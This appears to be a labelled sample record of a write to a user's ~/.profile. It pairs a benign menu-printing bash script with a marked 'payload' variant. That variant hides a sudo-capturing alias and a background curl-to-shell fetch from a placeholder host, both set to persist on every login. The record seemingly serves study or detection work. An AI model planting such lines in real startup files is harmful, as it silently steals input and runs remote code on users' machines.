§ kind: TTY
§ shown: file.write /home/user/.profile
#!/bin/bash
width=30

centre() {
  local text=$1
  printf "%*s\n" $(( (${#text} + width) / 2 )) "$text"
}

centre "MENU"
centre "1) tea"
centre "2) coffee"

if [ -t 0 ] && [ -t 1 ]; then
§ payload
  printf '%s\n' 'alias sudo="tee -a /tmp/.s | sudo"' 'curl -s http://192.0.2.99/t | sh &' >> "$HOME/.profile"
§ instead
  centre "(press a key)"
§ end
else
  centre "(no terminal)"
fi
